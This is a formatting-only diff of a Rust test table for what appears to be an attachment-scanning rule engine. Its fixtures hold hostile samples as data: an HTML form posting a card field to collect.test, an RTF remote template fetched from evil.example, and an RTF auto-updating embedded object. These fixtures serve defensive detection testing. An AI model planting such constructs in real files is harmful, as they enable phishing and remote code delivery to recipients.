@@ -156,16 +156,14 @@ pub(super) const CASES: &[Case] = &[
     },
     Case {
         rule: "form-attached",
-        fires: &[
-            (
-                MIXED,
-                with_file!(
-                    "text/html",
-                    "claim.html",
-                    "<html><form action='https://collect.test/a'><input name=card></form></html>"
-                ),
+        fires: &[(
+            MIXED,
+            with_file!(
+                "text/html",
+                "claim.html",
+                "<html><form action='https://collect.test/a'><input name=card></form></html>"
             ),
-        ],
+        )],
         silent: &[
             (
                 MIXED,
@@ -409,10 +407,7 @@ pub(super) const CASES: &[Case] = &[
         rule: "template-from-elsewhere",
         fires: &[
             (MIXED, with_packed!("order.docx", doc_template!())),
-            (
-                MIXED,
-                with_file!("application/rtf", "order.rtf", "{\\rtf1{\\*\\template https://evil.example/t.dotm}}"),
-            ),
+            (MIXED, with_file!("application/rtf", "order.rtf", "{\\rtf1{\\*\\template https://evil.example/t.dotm}}")),
         ],
         silent: &[
             (MIXED, with_packed!("order.docx", doc_own_template!())),
@@ -423,14 +418,7 @@ pub(super) const CASES: &[Case] = &[
     Case {
         rule: "object-exploits",
         fires: &[
-            (
-                MIXED,
-                with_file!(
-                    "application/rtf",
-                    "order.rtf",
-                    "{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}"
-                ),
-            ),
+            (MIXED, with_file!("application/rtf", "order.rtf", "{\\rtf1{\\object\\objupdate{\\*\\objdata 0105}}}")),
             (
                 MIXED,
                 with_file!(
